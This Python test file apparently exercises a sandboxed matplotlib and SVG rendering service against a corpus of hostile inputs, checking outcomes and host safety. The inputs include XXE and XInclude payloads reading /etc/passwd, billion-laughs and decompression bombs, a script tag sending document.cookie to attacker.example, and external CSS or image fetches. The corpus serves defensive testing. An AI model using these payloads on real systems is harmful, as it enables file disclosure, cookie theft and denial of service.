    "savefig_patched_noop": ("import matplotlib.figure\nmatplotlib.figure.Figure.savefig = lambda *a, **k: None\n"
                             + DRAW, "python", 5.0, {"no_output"}),
    "savefig_patched_huge": ("import matplotlib.figure\norig = matplotlib.figure.Figure.savefig\n"
                             "def big(self, *a, **k):\n    k['dpi'] = 20000\n    return orig(self, *a, **k)\n"
                             "matplotlib.figure.Figure.savefig = big\n" + DRAW, "python", 30.0, {"memory"}),
    "savefig_patched_past_max_side": ("import matplotlib.figure\norig = matplotlib.figure.Figure.savefig\n"
                                      "def big(self, *a, **k):\n    k['dpi'] = 5000\n    return orig(self, *a, **k)\n"
                                      "matplotlib.figure.Figure.savefig = big\n" + DRAW, "python", 30.0, {"too_large"}),
    "figure_class_patched": ("import matplotlib.figure\nmatplotlib.figure.Figure.get_size_inches = "
                             "lambda self: (1, 1)\n" + PLT + "plt.figure(figsize=(400, 400), dpi=100)\n",
                             "python", 10.0, {"memory"}),  # the job's own code fooled the check: its budget
    "open_patched_in_job_globals": ("open = None\n" + DRAW, "python", 5.0, {"ok"}),
    "long_literal": ("x = '" + "a" * 150000 + "'\n" + DRAW, "python", 5.0, {"ok"}),
    "null_byte_source": ("x = 1\0\n", "python", 5.0, {"syntax"}),
    "invalid_syntax": ("def (:\n", "python", 5.0, {"syntax"}),
    "bom_source": ("\ufeff" + DRAW, "python", 5.0, {"ok"}),
}

MATPLOTLIB = {
    "dpi_1e6": (PLT + "plt.figure(figsize=(2, 2), dpi=1e6)\nplt.plot([1])\n", "python", 5.0, {"too_large"}),
    "figsize_1e5": (PLT + "plt.figure(figsize=(1e5, 1e5))\nplt.plot([1])\n", "python", 5.0, {"too_large"}),
    "savefig_dpi_big": (PLT + "plt.figure(figsize=(1, 1))\nplt.plot([1])\nplt.savefig('out.png', dpi=5000)\n",
                        "python", 30.0, {"too_large"}),
    "ten_million_points": (PLT + "import numpy as np\nplt.figure(figsize=(1, 1), dpi=50)\n"
                           "plt.plot(np.arange(10 ** 7))\n", "python", 30.0, {"ok"}),
    "huge_fontsize": (PLT + "plt.figure(figsize=(1, 1), dpi=50)\nplt.text(0.5, 0.5, 'x', fontsize=1e6)\n",
                      "python", 5.0, {"crash"}),  # FreeType: invalid pixel size
    "huge_text": (PLT + "plt.figure(figsize=(1, 1), dpi=50)\nplt.text(0, 0, 'x' * 10 ** 6)\n", "python", 2.0,
                  {"timeout"}),
    "usetex": (PLT + "plt.rcParams['text.usetex'] = True\nplt.figure(figsize=(1, 1), dpi=50)\n"
               "plt.title('$x$')\n", "python", 5.0, {"forbidden"}),
    "mathtext_nesting_bomb": (PLT + "plt.figure(figsize=(1, 1), dpi=50)\n"
                              "plt.title('$' + '{' * 5000 + 'x' + '}' * 5000 + '$')\n", "python", 5.0, {"crash"}),
    "mathtext_sqrt_bomb": (PLT + "plt.figure(figsize=(1, 1), dpi=50)\n"
                           "plt.title('$' + r'\\sqrt{' * 2000 + 'x' + '}' * 2000 + '$')\n", "python", 5.0,
                           {"crash"}),
    "mathtext_frac_wide": (PLT + "plt.figure(figsize=(1, 1), dpi=50)\nplt.title('$' + r'\\frac{1}{2}' * 3000 + '$')\n",
                           "python", 2.0, {"timeout"}),
    "imread_host_shadow": (PLT + "plt.imread('/etc/shadow')\n", "python", 5.0, {"forbidden"}),
    "imread_host_cache": (PLT + "plt.imread('/etc/ld.so.cache')\n", "python", 5.0, {"crash"}),
    "imread_url": (PLT + "plt.imread('http://attacker.example/x.png')\n", "python", 5.0, {"crash"}),  # refused by mpl
    "imshow_nan": (PLT + "import numpy as np\nplt.figure(figsize=(1, 1), dpi=50)\n"
                   "plt.imshow(np.full((10, 10), np.nan))\n", "python", 5.0, {"ok"}),
    "imshow_inf": (PLT + "import numpy as np\nplt.figure(figsize=(1, 1), dpi=50)\n"
                   "plt.imshow(np.array([[np.inf, -np.inf], [0, 1]]))\n", "python", 5.0, {"ok"}),
    "plot_nan_inf": (PLT + "plt.figure(figsize=(1, 1), dpi=50)\nplt.plot([float('nan'), float('inf'), 1e308])\n",
                     "python", 5.0, {"crash"}),  # the tick locator cannot span inf
    "plot_nan_only": (PLT + "plt.figure(figsize=(1, 1), dpi=50)\nplt.plot([float('nan')] * 3)\n", "python", 5.0,
                      {"ok"}),
    # a size that is no size: `invalid_size` since test_render_hostile33 (these were a `crash`, "cannot write empty
    # image" / matplotlib's "figure size must be positive finite")
    "zero_size_figure": (PLT + "plt.figure(figsize=(0, 0))\nplt.plot([1])\n", "python", 5.0, {"invalid_size"}),
    "tiny_dpi": (PLT + "plt.figure(figsize=(1, 1), dpi=0.001)\nplt.plot([1])\n", "python", 5.0,
                 {"invalid_size"}),
    "negative_figsize": (PLT + "plt.figure(figsize=(-1, 2))\n", "python", 5.0, {"invalid_size"}),
    "nan_figsize": (PLT + "plt.figure(figsize=(float('nan'), 2))\n", "python", 5.0, {"invalid_size"}),
    "no_figure": ("x = 1 + 1\n", "python", 5.0, {"no_output"}),
    "fifty_figures": (PLT + "for i in range(50):\n    plt.figure(figsize=(1, 1), dpi=50)\n    plt.plot([i])\n",
                      "python", 15.0, {"ok"}),
    "extreme_aspect": (PLT + "plt.figure(figsize=(40, 0.05), dpi=100)\nplt.plot([1])\n", "python", 5.0,
                       {"invalid_image"}),  # aspect ratio
    # without ffmpeg matplotlib falls back to Pillow, which merges identical frames into one (a plain PNG)
    "animation_still_frames": (PLT + "from matplotlib import animation\nfig = plt.figure(figsize=(1, 1), dpi=50)\n"
                               "a = animation.FuncAnimation(fig, lambda i: [], frames=3)\na.save('out.png')\n",
                               "python", 10.0, {"ok"}),
    "animation_moving_frames": (PLT + "from matplotlib import animation\nfig = plt.figure(figsize=(1, 1), dpi=50)\n"
                                "a = animation.FuncAnimation(fig, lambda i: plt.plot([0, i]), frames=3)\n"
                                "a.save('out.png')\n", "python", 10.0, {"invalid_image"}),  # APNG
    "find_system_fonts": ("from matplotlib import font_manager\nfont_manager.findSystemFonts()\n", "python", 5.0,
                          {"forbidden"}),
    "savefig_pdf_named_png": (DRAW + "plt.savefig('out.png', format='pdf')\n", "python", 5.0, {"invalid_image"}),
    # drawn as an SVG job (test_render_hostile32; it was no_output)
    "savefig_svg_then_close": (DRAW + "plt.savefig('chart.svg')\nplt.close()\n", "python", 5.0, {"ok"}),
    "savefig_other_name": (DRAW + "plt.savefig('chart.png')\nplt.close()\n", "python", 5.0, {"ok"}),
}

_BLURB = '<rect width="10" height="10" fill="red"/>'


def _svg(body, w=20, h=20, timeout=5.0, expect=("ok",), head=""):
    return head + SVG.format(w=w, h=h, body=body), "svg", timeout, set(expect)


def _bomb_png_data_url():
    import base64
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 100000, 100000, 8, 0, 0, 0, 0))
           + chunk(b"IDAT", zlib.compress(b"\0" * 100001 * 16)) + chunk(b"IEND", b""))
    return "data:image/png;base64," + base64.b64encode(png).decode()


SVGS = {
    "billion_laughs": ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
                       '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg" width="9" '
                       'height="9"><text>&c;</text></svg>', "svg", 5.0, {"forbidden"}),
    "xxe_file": ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                 '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&x;</text></svg>', "svg", 5.0,
                 {"forbidden"}),
    "xxe_parameter_entity": ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">'
                             '%p;]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>', "svg", 5.0,
                             {"forbidden"}),
    "external_doctype": ('<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                         '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg" '
                         'width="9" height="9"/>', "svg", 5.0, {"ok"}),  # no internal subset: never loaded
    "undeclared_entity": ('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&x;</text></svg>', "svg",
                          5.0, {"syntax"}),  # not well-formed without a DOCTYPE
    "undeclared_entity_in_attribute": ('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="&w;" '
                                       'height="9"/></svg>', "svg", 5.0, {"syntax"}),
    "undeclared_entity_external_doctype": ('<!DOCTYPE svg SYSTEM "file:///etc/passwd"><svg xmlns="http://www.w3.org/'
                                           '2000/svg" width="9" height="9"><text>&x;</text></svg>', "svg", 5.0,
                                           {"forbidden"}),
    "undeclared_entity_in_attribute_under_doctype": ('<!DOCTYPE svg SYSTEM "x.dtd"><svg xmlns="http://www.w3.org/2000/'
                                                     'svg" width="9" height="9"><rect width="&w;" height="9"/></svg>',
                                                     "svg", 5.0, {"ok"}),  # read as empty text, nothing fetched
    "image_href_file": _svg('<image href="file:///etc/passwd" width="9" height="9"/>', expect=("forbidden",)),
    "image_xlink_http": _svg('<image xlink:href="http://attacker.example/x.png" width="9" height="9"/>',
                             expect=("forbidden",)),
    "use_external_file": _svg('<use xlink:href="file:///etc/fonts/fonts.conf#x"/>', expect=("forbidden",)),
    "image_relative_path": _svg('<image href="../../etc/ld.so.cache" width="9" height="9"/>', expect=("forbidden",)),
    "xml_base_file": _svg('<image xml:base="file:///etc/" href="#x" width="9" height="9"/>', expect=("forbidden",)),
    "xinclude": _svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
                     'parse="text"/>', expect=("forbidden",)),
    "processing_instruction": ('<?xml-stylesheet href="http://attacker.example/s.css"?>'
                               + SVG.format(w=9, h=9, body=""), "svg", 5.0, {"forbidden"}),
    "use_fanout": _svg('<defs><rect id="a0" width="1" height="1"/>' + "".join(
        f'<g id="a{i + 1}">' + f'<use xlink:href="#a{i}"/>' * 10 + "</g>" for i in range(9))
        + '</defs><use xlink:href="#a9"/>', timeout=1.0, expect=("too_large",)),  # refused before drawing (review 22)
    "use_self": _svg('<g id="a"><use xlink:href="#a"/></g>', expect=("ok",)),  # not rendered (review 20)
    "huge_width": _svg(_BLURB, w=10 ** 6, h=10, expect=("too_large",)),
    "huge_viewbox_small_size": ('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" '
                                'viewBox="0 0 1e30 1e30">' + _BLURB + "</svg>", "svg", 5.0, {"ok"}),
    "width_in_inches": _svg(_BLURB, w="100in", h="100in", expect=("too_large",)),
    "width_past_int": _svg(_BLURB, w="1e300", h=10, expect=("too_large",)),
    # a size that is no size (negative, zero, NaN): `invalid_size` since test_render_hostile33, a `crash` before
    "negative_width": _svg(_BLURB, w=-10, h=10, expect=("invalid_size",)),
    "zero_width": _svg(_BLURB, w=0, h=10, expect=("invalid_size",)),
    "blur_1e6": _svg('<filter id="f"><feGaussianBlur stdDeviation="1e6"/></filter>'
                     '<rect width="10" height="10" filter="url(#f)"/>', expect=("ok",)),
    "turbulence_big": _svg('<filter id="f" x="0" y="0" width="1e6" height="1e6"><feTurbulence baseFrequency="0.9" '
                           'numOctaves="1000000"/></filter><rect width="10" height="10" filter="url(#f)"/>',
                           expect=("ok",)),
    "deep_nesting": _svg("<g>" * 20000 + "</g>" * 20000, expect=("crash",)),
    "pattern_zero_size": _svg('<pattern id="p" width="0" height="0"><rect width="1" height="1"/></pattern>'
                              '<rect width="10" height="10" fill="url(#p)"/>', expect=("ok",)),  # draws nothing
    "pattern_negative_size": _svg('<pattern id="p" width="-5" height="-5"><rect width="1" height="1"/></pattern>'
                                  '<rect width="10" height="10" fill="url(#p)"/>', expect=("crash",)),
    "pattern_negative_user_space": _svg('<pattern id="p" width="-5" height="5" patternUnits="userSpaceOnUse">'
                                        '<rect width="1" height="1"/></pattern><rect width="10" height="10" '
                                        'fill="url(#p)"/>', expect=("crash",)),
    "mask_negative_size": _svg('<mask id="m" width="-2" height="-2"><rect width="5" height="5" fill="white"/></mask>'
                               '<rect width="10" height="10" mask="url(#m)"/>', expect=("crash",)),
    "pattern_tiny_tile": _svg('<pattern id="p" width="1e-6" height="1e-6" patternUnits="userSpaceOnUse">'
                              '<rect width="1" height="1"/></pattern><rect width="10" height="10" fill="url(#p)"/>',
                              timeout=2.0, expect=("ok",)),
    "pattern_huge_tile": _svg('<pattern id="p" width="100000" height="100000" patternUnits="userSpaceOnUse">'
                              '<rect width="1" height="1"/></pattern><rect width="10" height="10" fill="url(#p)"/>',
                              expect=("memory",)),
    "data_svg_nested": _svg('<image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" width="9" height="9"/>',
                            expect=("forbidden",)),
    "data_gzip": _svg('<image href="data:image/png;base64,H4sIAAAAAAAAA8tIzcnJBwCGphA2BQAAAA==" width="9" height="9"/>',
                      expect=("forbidden",)),
    "foreign_object_html": _svg('<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
                                '<iframe src="file:///etc/passwd"/></body></foreignObject>', expect=("ok",)),
    "script_tag": _svg('<script>fetch("http://attacker.example/"+document.cookie)</script>' + _BLURB,
                       expect=("ok",)),
    "onload_attribute": ('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)">'
                         + _BLURB + "</svg>", "svg", 5.0, {"ok"}),
    "css_import": _svg('<style>@import url(http://attacker.example/x.css);</style>' + _BLURB,
                       expect=("forbidden",)),
    "css_url_file": _svg('<style>rect { fill: url(file:///etc/passwd) }</style>' + _BLURB, expect=("forbidden",)),
    "css_escaped_import": _svg('<style>@\\69mport "http://attacker.example/x.css";</style>' + _BLURB,
                               expect=("forbidden",)),
    "font_face_file": _svg('<style>@font-face { font-family: x; src: url(file:///usr/share/fonts/x.ttf) }</style>'
                           '<text font-family="x">hi</text>', expect=("forbidden",)),
    "style_attr_url": _svg('<rect width="9" height="9" style="fill: url(http://attacker.example/#p)"/>',
                           expect=("forbidden",)),
    "huge_stroke_dash": _svg('<circle r="1e7" cx="10" cy="10" fill="none" stroke="red" stroke-dasharray="0.01"/>',
                             timeout=1.0, expect=("too_large",)),  # an arc past cairo's range (was a timeout)
    "arc_1e308": _svg('<path d="M0 0 A1e308 1e308 0 0 1 10 10" stroke="red"/>', expect=("ok",)),  # its chord (was a crash)
    "nan_size": _svg(_BLURB, w="nan", h=10, expect=("invalid_size",)),
    "root_not_svg": ('<html xmlns="http://www.w3.org/1999/xhtml"><svg/></html>', "svg", 5.0, {"forbidden"}),
    "not_xml": ("this is not xml <svg", "svg", 5.0, {"syntax"}),
    "empty_svg": ("", "svg", 5.0, {"syntax"}),
    # past max_svg_bytes (1 MiB), the SVG's documented cap (300,000 characters were refused by the python code's cap)
    "oversized_source": (SVG.format(w=9, h=9, body="<!--" + "x" * 1100000 + "-->"), "svg", 5.0, {"too_large"}),
    "clean_svg": _svg(_BLURB, expect=("ok",)),
}

SVGS["data_png_bomb"] = _svg(f'<image href="{_bomb_png_data_url()}" width="9" height="9"/>',
                             expect=("too_large",))  # PIL's limit, though cairo decodes a PNG itself
SVGS["data_gif_bomb"] = _svg('<image href="data:image/gif;base64,' + __import__("base64").b64encode(
    b"GIF89a\xff\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02D\x01\x00;").decode()
    + '" width="9" height="9"/>', expect=("too_large",))  # PIL's DecompressionBombError

CORPUS = {**PROCESSES, **SOCKETS, **SECRETS, **WRITES, **SIGNALS, **TIME, **MEMORY, **OUTPUT, **PYTHON_TRICKS,
          **MATPLOTLIB, **SVGS}

GROUPS = {"syscalls": SYSCALLS, "processes": PROCESSES, "sockets": SOCKETS, "secrets": SECRETS, "writes": WRITES,
          "signals": SIGNALS, "time": TIME, "memory": MEMORY, "output": OUTPUT, "python_tricks": PYTHON_TRICKS,
          "matplotlib": MATPLOTLIB, "svg": SVGS}
JOB_ENV = {"HOME", "LANG", "LOGNAME", "MPLBACKEND", "MPLCONFIGDIR", "PATH", "TMPDIR", "USER"}


@pytest.fixture(scope="module")
def pool(render_pool):
    return render_pool


def _canaries():
    """Files named with TOKEN where a job tried to write outside its dir: the host's temp dir, /dev/shm, home."""
    found = set()
    for d in (HOST_TMP, "/dev/shm", os.path.expanduser("~")):
        try:
            found |= {os.path.join(d, n) for n in os.listdir(d) if TOKEN in n}
        except OSError:
            pass
    return found


# a program whose label is not ``timeout`` runs under at least this timeout: on a loaded CI machine (two test workers
# on two cores) a matplotlib job that takes 0.5 s alone can take several, and must not turn into a ``timeout``
SLOW_MACHINE_TIMEOUT_S = 15.0


def _timeout_of(program) -> float:
    _, _, timeout_s, expected = program
    return timeout_s if "timeout" in expected else max(timeout_s, SLOW_MACHINE_TIMEOUT_S)


def _run_group(pool, programs):
    """{name: (kind, message, elapsed_s)}, the programs batched by timeout through the pool's workers."""
    got = {}
    for timeout_s in sorted({_timeout_of(p) for p in programs.values()}):
        names = [n for n, p in programs.items() if _timeout_of(p) == timeout_s]
        t0 = time.monotonic()
        results = pool.render_many([RenderJob(programs[n][0], programs[n][1]) for n in names], timeout_s=timeout_s)
        batch_s = time.monotonic() - t0
        for n, r in zip(names, results):
            assert r.ok == (r.error_kind is None) and (r.png is not None) == r.ok, (n, r)
            got[n] = ("ok" if r.ok else r.error_kind, r.message, r.elapsed_s)
            # past its timeout only by the validator's and the worker's own setup (a hang would be far past it)
            assert r.elapsed_s < timeout_s + 10, (n, got[n])
        assert batch_s < len(names) * (timeout_s + 10), (timeout_s, batch_s)
    return got


def check_batch_is_new(groups, *earlier_groups):
    """A hostile batch (group name -> programs) holds 25+ well-formed programs, none named or written as one of this
    file's corpus or of ``earlier_groups`` (other batches' group dicts)."""
    earlier = {**CORPUS, **SYSCALLS, **{n: p for gs in earlier_groups for g in gs.values() for n, p in g.items()}}
    mine = {n: p for g in groups.values() for n, p in g.items()}
    assert len(mine) >= 25 and not set(mine) & set(earlier)
    assert not {p[0] for p in mine.values()} & {p[0] for p in earlier.values()}
    assert all(len(v) == 4 and v[1] in ("python", "svg") and v[3] for v in mine.values())


def check_batch(pool, programs, stray_dirs=()):
    """Run ``programs`` (name -> (code, language, timeout, expected kinds)) through ``pool`` and check what every
    hostile batch must leave: each program's kind among its expected ones, the same workers (none replaced), no job
    process, no file named with the canary token in ``stray_dirs``, a clean render afterwards, and job text escaped
    and bounded. Returns {name: (kind, message, elapsed_s)}."""
    from conftest import job_processes, png_pixel

    pids, replaced = pool.worker_pids(), pool.replaced
    got = _run_group(pool, programs)
    wrong = {n: got[n] for n, (_, _, _, expected) in programs.items() if got[n][0] not in expected}
    assert not wrong, wrong
    assert pool.replaced == replaced and pool.worker_pids() == pids
    assert job_processes(pool) == []
    for d, token in stray_dirs:  # where a write outside the job dir would land
        assert not [n for n in (os.listdir(d) if os.path.isdir(d) else ()) if token in n], d
    r = pool.render(RenderJob(RED))
    assert r.ok and (r.width, r.height) == (100, 100) and png_pixel(r.png, (50, 50)) == (255, 0, 0), r
    for name, (kind, message, _) in got.items():
        assert "\x1b" not in message and "\x07" not in message and len(message) < 1100, (name, message)
    return got


def check_batch_in_time(pool, programs, token):
    """``check_batch`` with stray writes looked for where they would land (the host's temp dirs, home and root, names
    holding ``token``), each program done within its timeout + 6 s. Returns {name: (kind, message, elapsed_s)}."""
    got = check_batch(pool, programs,
                      stray_dirs=[(d, token) for d in (HOST_TMP, "/tmp", "/dev/shm", os.path.expanduser("~"), "/")])
    print(json.dumps({n: got[n] for n in programs}, indent=0))
    for name, (kind, message, elapsed_s) in got.items():
        assert elapsed_s < programs[name][2] + 6, (name, elapsed_s)
    return got


@pytest.mark.parametrize("group", list(GROUPS))
def test_corpus_outcomes_match_the_readme(pool, group):
    if group == "syscalls" and platform.machine() != "x86_64":
        pytest.skip("raw system call numbers are x86_64's")
    programs = GROUPS[group]
    pids, replaced, canaries = pool.worker_pids(), pool.replaced, _canaries()
    got = _run_group(pool, programs)
    wrong = {n: got[n] for n, (_, _, _, expected) in programs.items() if got[n][0] not in expected}
    assert not wrong, wrong
    # host effects: the same workers, no job process left, nothing written outside, a clean render afterwards
    assert pool.replaced == replaced and pool.worker_pids() == pids
    assert _job_processes(pool) == []
    assert _canaries() == canaries
    r = pool.render(RenderJob(RED))
    assert r.ok and (r.width, r.height) == (100, 100) and _pixel(r.png, (50, 50)) == (255, 0, 0), r
    for name, (kind, message, _) in got.items():  # job text is escaped: no terminal control reaches the caller
        assert "\x1b" not in message and "\x07" not in message and len(message) < 1100, (name, message)
    if group == "secrets":
        assert set(json.loads(got["env_vars"][1].split("RuntimeError: ", 1)[1])) == JOB_ENV
    if group == "output":
        assert got["ansi_in_exception"][1] == "job: RuntimeError: \\x1b[2J\\x1b[31mPWNED\\x1b]0;title\\x07"


def test_the_corpus_is_broad():
    assert len(CORPUS) + len(SYSCALLS) >= 120
    assert all(len(v) == 4 and v[1] in ("python", "svg") and v[3] for v in {**CORPUS, **SYSCALLS}.values())


# -- the fixes this sweep made, each alone ---------------------------------------------------------------------------
def test_an_undeclared_entity_is_forbidden_under_a_doctype_and_a_parse_error_without_one():
    from render.svg import check_svg

    # as README says: a DOCTYPE makes expat skip an undeclared entity in text (refused); without one it is not
    # well-formed; in an attribute value under a DOCTYPE expat reads it as empty text (cairosvg parses with expat too)
    doctype = '<!DOCTYPE svg SYSTEM "x.dtd">'
    for body in ("<text>&x;</text>", '<rect width="&w;"/>', "<text>&nbsp;</text>"):
        svg = f'<svg xmlns="http://www.w3.org/2000/svg">{body}</svg>'
        assert check_svg(svg)[0] == "syntax", svg
        refused = check_svg(doctype + svg)
        if "width" in body:
            assert refused is None
        else:
            assert refused[0] == "forbidden" and "undeclared entity" in refused[1], (svg, refused)
    # the five predefined entities and character references are XML, not entities to refuse
    assert check_svg('<svg xmlns="http://www.w3.org/2000/svg"><text>&lt;&amp;&#65;</text></svg>') is None


def test_a_negative_pattern_or_mask_size_is_the_documents_error(pool):
    # before: memory, "cairo returned CAIRO_STATUS_NO_MEMORY" for a 20 px SVG (cairo's answer to the negative tile)
    for name in ("pattern_negative_size", "pattern_negative_user_space", "mask_negative_size"):
        r = pool.render(RenderJob(SVGS[name][0], "svg"), timeout_s=15)
        assert r.error_kind == "crash" and "The SVG pattern / mask size is negative" in r.message, (name, r)
    # zero and positive tiles are drawn as before (a zero tile draws nothing)
    r = pool.render(RenderJob(SVGS["pattern_zero_size"][0], "svg"), timeout_s=15)
    assert r.ok, r


def test_a_data_png_past_pils_pixel_limit_is_too_large_as_any_other_format():
    import base64
    import io

    from PIL import Image

    from render import worker as wk

    # before: returned to cairo, which decodes a PNG itself: NO_MEMORY (memory) where a GIF was too_large
    with pytest.raises(Image.DecompressionBombError, match="100000x100000"):
        wk._raster_only_fetch(_bomb_png_data_url(), "image/*")
    buf = io.BytesIO()
    Image.new("RGB", (3, 2), "red").save(buf, "PNG")
    url = "data:image/png;base64," + base64.b64encode(buf.getvalue()).decode()
    assert wk._raster_only_fetch(url, "image/*") == buf.getvalue()
